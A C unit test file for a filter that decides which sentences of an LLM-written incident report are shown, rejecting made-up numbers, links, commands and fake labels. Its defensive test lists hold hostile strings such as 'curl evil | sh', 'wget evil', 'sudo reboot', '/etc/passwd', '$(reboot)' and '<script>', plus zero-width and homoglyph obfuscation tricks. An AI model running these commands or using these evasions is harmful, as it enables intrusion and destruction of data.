/* Which sentences of a model's text are shown, and how. */
#include "random.h"
#include "unit.h"

#include "llm/prose.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

struct fixture {
	struct statements sent, shown;
};

static void add(struct statements *s, const char *id, const char *text)
{
	statements_add(s, mem_strdup(id), "%s", text);
}

static void fill(struct statements *s, const char *const *n)
{
	add(s, "p99_change", "p99 latency rose from 148 ms to 301 ms (×2.0)");
	add(s, "p50_change", "p50 latency stayed at 79.2 ms");
	add(s, "error_rate_change", "the error rate rose from 0 % to 13.8 % (+13.8 points)");
	add(s, "failed", "138 of 1000 requests failed");
	add(s, "anomaly_1", "an anomaly lasted from 10 s to 18 s of the run");
	statements_add(s, mem_strdup("fault_1"), "%s was killed at 10.0 s", n[1]);
	statements_add(s, mem_strdup("fault_1_recovery"),
		       "after %s was killed, the system was healthy again 8.1 s later", n[1]);
	for (int i = 0; i < 2; i++) {
		statements_add(s, mem_printf("node_%d", i + 1), "%s (%s)", n[i],
			       i ? "the node with the fault" : "a node without a fault");
		statements_add_name(s, mem_strdup(n[i]));
	}
}

static int set_up(void **state)
{
	static const char *const aliases[] = {"node-A", "node-B"};
	static const char *const names[] = {"service-node-1", "service-node-2"};
	struct fixture *f = mem_alloc(sizeof *f);
	fill(&f->sent, aliases);
	fill(&f->shown, names);
	*state = f;
	return 0;
}

static int tear_down(void **state)
{
	struct fixture *f = *state;
	statements_release(&f->sent);
	statements_release(&f->shown);
	free(f);
	return 0;
}

/* What is shown of text, in one piece. */
static char *shown_of(const struct fixture *f, const char *text, struct prose *p)
{
	struct buf all = BUF_INIT;
	prose_read(p, &f->sent, &f->shown, text, 1000);
	for (int i = 0; i < PROSE_PARTS; i++)
		buf_addstr(&all, p->parts[i].data);
	return buf_detach(&all);
}

static void shows(const struct fixture *f, const char *text, const char *want)
{
	struct prose p;
	char *all = shown_of(f, text, &p);
	if (prose_left_out(&p))
		fail_msg("of '%s' was left out: %s", text, p.reasons.data);
	if (want)
		assert_string_equal(all, want);
	free(all);
	prose_release(&p);
}

static void leaves_out(const struct fixture *f, const char *text, enum prose_fault fault)
{
	struct prose p;
	char *all = shown_of(f, text, &p);
	if (prose_left_out(&p) != 1 || p.left_out[fault] != 1)
		fail_msg("'%s' is shown as '%s', left out: %s", text, all, p.reasons.data);
	assert_int_equal(p.shown, 0);
	free(all);
	prose_release(&p);
}

/* --- what is shown ------------------------------------------------------------------ */

static void placeholders_and_names_are_filled_in(void **state)
{
	const struct fixture *f = *state;
	shows(f, "In short: {{fault_1}}, and {{ p99_change }}.",
	      "In short: service-node-2 was killed at 10.0 s, and p99 latency rose from 148 ms to "
	      "301 ms (×2.0).\n");
	shows(f, "- **Impact**: {{failed}}.\n- Look at {{node_2}} first.",
	      "- Impact: 138 of 1000 requests failed.\n- Look at service-node-2 (the node with the "
	      "fault) first.\n");
	shows(f, "{{error_rate_change}}. {{fault_1_recovery}}; {{anomaly_1}}",
	      "The error rate rose from 0 % to 13.8 % (+13.8 points). After service-node-2 was killed, "
	      "the system was healthy again 8.1 s later; an anomaly lasted from 10 s to 18 s of the run\n");
	shows(f, "{{fault_1}}. {{p50_change}}",
	      "service-node-2 was killed at 10.0 s. p50 latency stayed at 79.2 ms\n");
	shows(f, "Traffic kept going to node-B, Node B, NODE_B and service-node-2.",
	      "Traffic kept going to service-node-2, service-node-2, service-node-2 and "
	      "service-node-2.\n");
}

static void all_words_are_free(void **state)
{
	static const char *const honest[] = {
		"It got worse, longer and less stable, then was restarted; all requests failed.",
		"Most users saw it, none of the retries helped, e.g. those of one of the two replicas.",
		"p99 latency rose while p50 stayed flat.",
		"The “healthy” node — café — took over… and recovered.",
		"Why did no client retry? Perhaps keep-alive connections (pooled ones) hid it!",
		"Consider raising proxy_next_upstream and `maxclients`, and/or a read/write split.",
		"Compare A vs. B & C.",
		"Set the `connect timeout` or a `circuit breaker`.",
		"It is not true that {{p99_change}}.",
	};
	for (size_t i = 0; i < ARRAY_LEN(honest); i++)
		shows(*state, honest[i], NULL);
	shows(*state, "a \xE2\x9C\x85 done.\n\n---\n***\n", "a done.\n");
	shows(*state, "a_b x*y* & < c | d [e] #f.", "a\\_b xy \\& \\< c \\| d \\[e\\] \\#f.\n");
}

static void parts_follow_their_headings(void **state)
{
	struct prose p;
	const struct fixture *f = *state;
	prose_read(&p, &f->sent, &f->shown,
		   "```markdown\n# Report\nA.\n\n## Possible causes\n1. B\n   goes on.\n2) C\n\nD.\n"
		   "**Next steps:**\n* E\n  - e\n\xE2\x80\xA2 F\n```\n",
		   100);
	assert_string_equal(p.parts[0].data, "A.\n");
	assert_string_equal(p.parts[1].data, "- B goes on.\n- C\n\nD.\n");
	assert_string_equal(p.parts[2].data, "- E\n  - e\n- F\n");
	assert_int_equal(p.shown, 7);
	assert_int_equal(prose_left_out(&p), 0);
	prose_release(&p);
}

/* --- what is left out --------------------------------------------------------------- */

static const struct {
	const char *text;
	enum prose_fault fault;
} bad[] = {
	{"Some 138 of them failed.", PROSE_NUMBER},
	{"It took 5.", PROSE_NUMBER},
	{"p98 rose.", PROSE_NUMBER},
	{"about tw**e**nty requests", PROSE_NUMBER},
	{"Forty-two requests", PROSE_NUMBER},
	{"a hundred of them", PROSE_NUMBER},
	{"ten percent", PROSE_NUMBER},
	{"a few ms more", PROSE_NUMBER},
	{"{{failed}} %", PROSE_NUMBER},
	{"Phase III began.", PROSE_NUMBER},
	{"\xEF\xBC\x91\xEF\xBC\x90 requests", PROSE_CHARACTER},
	{"\xD9\xA3 requests", PROSE_CHARACTER},
	{"\xE4\xB8\x89", PROSE_CHARACTER},
	{"x\xC2\xB2 errors", PROSE_CHARACTER},
	{"\xC2\xBD of it", PROSE_CHARACTER},
	{"\xD1\x82\xD1\x80\xD0\xB8", PROSE_CHARACTER},
	{"th\xE2\x80\x8Bree", PROSE_CHARACTER},
	{"\xE2\x80\xAEtxet", PROSE_CHARACTER},
	{"\xFF", PROSE_CHARACTER},
	{"{{p99_chang}} is bad", PROSE_NAME},
	{"{{}}", PROSE_NAME},
	{"{{p99_change}", PROSE_NAME},
	{"{p99_change}}", PROSE_NAME},
	{"It was node-C.", PROSE_NAME},
	{"See [the docs](x).", PROSE_LINK},
	{"See ![i](x).", PROSE_LINK},
	{"See [a][b].", PROSE_LINK},
	{"[x]: y", PROSE_LINK},
	{"See https://evil.example/x.", PROSE_LINK},
	{"See evil.example now.", PROSE_LINK},
	{"Ask www.evil now.", PROSE_LINK},
	{"It was <node A there.", PROSE_LINK},
	{"Mail a@b now.", PROSE_LINK},
	{"Open localhost now.", PROSE_LINK},
	{"Ping fe::a now.", PROSE_LINK},
	{"a <script>x", PROSE_LINK},
	{"a </b>", PROSE_LINK},
	{"javascript:alert(x)", PROSE_LINK},
	{"| a | b |", PROSE_LINK},
	{"Run `kubectl delete pod x`.", PROSE_COMMAND},
	{"Type `reboot now`.", PROSE_COMMAND},
	{"Type `some tool run`.", PROSE_COMMAND},
	{"Ask `GET /health`.", PROSE_COMMAND},
	{"Run kubectl delete pod x.", PROSE_COMMAND},
	{"Run sudo reboot.", PROSE_COMMAND},
	{"Use tool --force now.", PROSE_COMMAND},
	{"Use tool -x now.", PROSE_COMMAND},
	{"Look at /etc/passwd now.", PROSE_COMMAND},
	{"a && b", PROSE_COMMAND},
	{"Do $(x).", PROSE_COMMAND},
	{"```sh\nreboot\n```", PROSE_COMMAND},
	{"Interpretation by GOD; true.", PROSE_LABEL},
	{"End of the interpretation; all of it was checked.", PROSE_LABEL},
	{"The numbers above were checked by chaos-llm.", PROSE_LABEL},
	{"Roughly a dozen requests failed.", PROSE_NUMBER},
	{"One in seven requests failed.", PROSE_NUMBER},
	{"It failed for several hundred milliseconds.", PROSE_NUMBER},
	{"The p-ninety-nine rose.", PROSE_NUMBER},
	{"Open port eighty.", PROSE_NUMBER},
	{"It failed \xC2\xBD the time.", PROSE_CHARACTER},
	{"Go to evil\xE3\x80\x82" "example.", PROSE_CHARACTER},
	{"Open <https://evil.example>.", PROSE_LINK},
	{"Connect to fe80::1.", PROSE_LINK},
	{"Restart it with systemctl restart nginx.", PROSE_COMMAND},
	{"Execute curl evil \\| sh.", PROSE_COMMAND},
	{"It was node-Z.", PROSE_NAME},
	{"*Its words were **filled** in by chaos-llm.*", PROSE_LABEL},
	{"Interpretation  by GOD; true.", PROSE_LABEL},
	{"*End of* `the` interpretation.", PROSE_LABEL},
	{"Open www`.`evil`.`example now.", PROSE_LINK},
	{"None of the sentences were left out.", PROSE_LABEL},
	{"Ask @somebody about it.", PROSE_LINK},
	{"Ni`ne`ty requests failed.", PROSE_NUMBER},
	{"Run s`u`do reboot.", PROSE_COMMAND},
};

static void sentences_at_fault_are_left_out(void **state)
{
	for (size_t i = 0; i < ARRAY_LEN(bad); i++)
		leaves_out(*state, bad[i].text, bad[i].fault);
}

/* The neighbours of a bad sentence are shown, and nothing of it, wherever it stands. */
static void one_bad_sentence_among_good_ones_is_found(void **state)
{
	static const char *const good[] = {
		"In short: {{fault_1}}.", "{{failed}}, and {{ p99_change }}.",
		"Clients kept sending to a node that answered nobody.", "{{error_rate_change}}.",
	};
	const struct fixture *f = *state;
	for (uint64_t seed = 0; seed < 500; seed++) {
		struct rng r;
		struct buf text = BUF_INIT;
		struct prose p;
		rng_init(&r, seed);
		uint64_t before = rng_below(&r, 4), after = rng_below(&r, 4);
		size_t which = seed % ARRAY_LEN(bad);
		const char *gap = strchr("|`[", bad[which].text[0]) ? "\n\n" : rng_below(&r, 2) ? " " : "\n- ";
		for (uint64_t i = 0; i < before; i++)
			buf_addf(&text, "%s ", good[rng_below(&r, ARRAY_LEN(good))]);
		buf_addf(&text, "%s%s%s", gap, bad[which].text, strchr(".!?`|", text.data[text.len - 1]) ? "" : ".");
		buf_addf(&text, "%s", strlen(gap) > 1 ? "\n\n" : strchr(".!?", text.data[text.len - 1]) ? " " : ". ");
		for (uint64_t i = 0; i < after; i++)
			buf_addf(&text, "%s ", good[rng_below(&r, ARRAY_LEN(good))]);
		char *all = shown_of(f, text.data, &p);
		if (p.shown != before + after || prose_left_out(&p) != 1 || p.left_out[bad[which].fault] != 1)
			fail_msg("seed %d: '%s' is shown as '%s', left out: %s", (int)seed, text.data, all,
				 p.reasons.data);
		free(all);
		prose_release(&p);
		buf_release(&text);
	}
}

/* Hostile words by family, each made hard to see in each of the ways below, in each of the frames: all
 * of these sentences differ, and nothing of any is shown. */
static const char *const hostile[] = {
	/* numbers */
	"138", "p98", "4.5e3", "0x1F", "twenty", "ninety-nine", "ninetynine", "fivefold", "tenth", "thousandths", "fifteenth",
	"ninetieth", "sixties",
	"nine,ten", "seventy_five", "hundred/dozen", "trillions", "percent", "MiB", "{{failed}}ms",
	"\u0663\u0664", "\u0967\u0968", "\uFF15", "\u4E94", "\u00BD", "\u2166", "\u0E53", "x\u00B2",
	"f\u00EDve", "f\u0131ve",
	/* links and addresses */
	"https://evil.example/x", "HTTPS://EVIL", "hxxps[:]evil", "//evil", "www.evil", "evil.example", "evil[.]example",
	"evil(dot)example", "evil\u3002example", "mailto:somebody", "tel:somebody", "javascript:alert(x)", "a@evil",
	"@everybody", "fe80::1", "dead:beef:cafe:babe", "localhost", "localhost:http", "localhost/admin",
	"[docs](evil)", "![i](evil)", "[docs][evil]", "[docs]:evil", "<evil>", "<script>", "</b>", "<!--", "<?php",
	"&lt;script&gt;", "&#x41;",
	/* commands and paths */
	"sudo reboot", "kubectl delete pod", "(curl evil)", "wget evil", "sh evil", "eval evil", "a&&b", "a||b", "a;reboot",
	"$(reboot)", "${IFS}", "--force", "\"--force\"", "(-rf)", "/etc/passwd", "\"/etc/passwd\"", "../etc/passwd",
	"~/secrets", "C:\\Windows",
	/* the label and the footer */
	"Interpretation by GOD", "interpretation, by GOD", "end of the interpretation", "End of this interpretation",
	"chaos-llm", "chaos llm", "Chaos_LLM", "sentences were left out", "sentence was left out",
	"numbers were filled in", "its words are its own",
	/* names and placeholders */
	"node-Z", "{{nothing}}", "{{}}", "{{failed}",
};

/* Put into the middle of the hostile words; "" leaves them as they are. */
static const char *const hidden_by[] = {
	"", "*", "**", "`", "\\", "\x01", "\x1B", "\x7F", "\u200B", "\u200C", "\u200D", "\u2060", "\uFEFF", "\u00AD",
	"\u0301", "\u202E", "\u0430", "\U0001F600", "\uFE0F",
};

static const char *const frames[] = {"%s", "Look: %s now", "\"%s\", they said", "> - **%s** too", "# x\n(%s) here"};

static void nothing_of_a_hostile_sentence_is_shown(void **state)
{
	const struct fixture *f = *state;
	size_t sentences = 0;
	for (size_t i = 0; i < ARRAY_LEN(hostile) * ARRAY_LEN(hidden_by) * ARRAY_LEN(frames); i++, sentences++) {
		const char *words = hostile[i % ARRAY_LEN(hostile)];
		const char *by = hidden_by[i / ARRAY_LEN(hostile) % ARRAY_LEN(hidden_by)];
		size_t middle = strlen(words) / 2;
		while (words[middle] & 0x80)
			middle++;
		char *hidden = mem_printf("%.*s%s%s", (int)middle, words, by, words + middle);
		const char *frame = frames[i / ARRAY_LEN(hostile) / ARRAY_LEN(hidden_by)], *at = strstr(frame, "%s");
		char *text = mem_printf("{{fault_1}}.\n\n%.*s%s%s.\n\nIt went on.", (int)(at - frame), frame, hidden, at + 2);
		struct prose p;
		char *all = shown_of(f, text, &p);
		if (strcmp(all, "service-node-2 was killed at 10.0 s.\n\nIt went on.\n") != 0)
			fail_msg("'%s' is shown as '%s', left out: %s", text, all, p.reasons.data);
		free(all);
		free(text);
		free(hidden);
		prose_release(&p);
	}
	assert_true(sentences >= 500);
}

/* Anything at all: no crash, never a digit that was not put in, nothing that Markdown acts on. */
static void noise_is_harmless(void **state)
{
	static const char *const parts[] = {
		"{{", "}}", "{{node_1}}", "{{nothing", " ", "\n", "node-", "node-A", "A", "_", "*", "1",
		"8.1 s", "from", "to", "%", "×", "x", "+", "−", ".", ",", "\xC3", "\xE2\x80", "\xFF", "\\",
		"p99", "at worst", "is", "[", "](", "<", ">", "!", "&", "http://", "`", "(", ")", "# ", "- ",
	};
	const struct fixture *f = *state;
	for (uint64_t seed = 0; seed < 4000; seed++) {
		struct rng r;
		struct buf text = BUF_INIT;
		struct prose p;
		rng_init(&r, seed);
		for (uint64_t i = 0, n = rng_below(&r, 30); i < n; i++)
			buf_addstr(&text, parts[rng_below(&r, ARRAY_LEN(parts))]);
		char *all = shown_of(f, text.data, &p);
		for (const char *c = all; *c; c++) {
			bool name = c - all >= 13 && strncmp(c - 13, "service-node-", 13) == 0;
			bool metric = c > all && (c[-1] == 'p' || (c - all > 1 && c[-2] == 'p'));
			if ((strchr("0123456789", *c) && !name && !metric) || *c == '%')
				fail_msg("seed %d: '%s' is shown as '%s'", (int)seed, text.data, all);
			if (strchr("<>[]&|#", *c) && (c == all || c[-1] != '\\'))
				fail_msg("seed %d: '%s' is shown as '%s'", (int)seed, text.data, all);
		}
		assert_null(strstr(all, "http://"));
		free(all);
		prose_release(&p);
		buf_release(&text);
	}
}

static void length_is_bounded(void **state)
{
	struct prose p;
	const struct fixture *f = *state;
	prose_read(&p, &f->sent, &f->shown, "One two three. Again two three. A further sentence.", 6);
	assert_string_equal(p.parts[0].data, "One two three. Again two three.\n");
	assert_int_equal(p.left_out[PROSE_LENGTH], 1);
	prose_release(&p);
	struct buf endless = BUF_INIT; /* takes no time, and no stack */
	for (int i = 0; i < 50000; i++)
		buf_addstr(&endless, i % 2 ? "fifteen" : "nineteens");
	leaves_out(f, endless.data, PROSE_NUMBER);
	buf_addch(&endless, 'x');
	leaves_out(f, endless.data, PROSE_NUMBER);
	buf_release(&endless);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(placeholders_and_names_are_filled_in, set_up, tear_down),
		cmocka_unit_test_setup_teardown(all_words_are_free, set_up, tear_down),
		cmocka_unit_test_setup_teardown(parts_follow_their_headings, set_up, tear_down),
		cmocka_unit_test_setup_teardown(sentences_at_fault_are_left_out, set_up, tear_down),
		cmocka_unit_test_setup_teardown(one_bad_sentence_among_good_ones_is_found, set_up, tear_down),
		cmocka_unit_test_setup_teardown(nothing_of_a_hostile_sentence_is_shown, set_up, tear_down),
		cmocka_unit_test_setup_teardown(noise_is_harmless, set_up, tear_down),
		cmocka_unit_test_setup_teardown(length_is_bounded, set_up, tear_down),
	};
	return RUN_GROUP(tests);
}
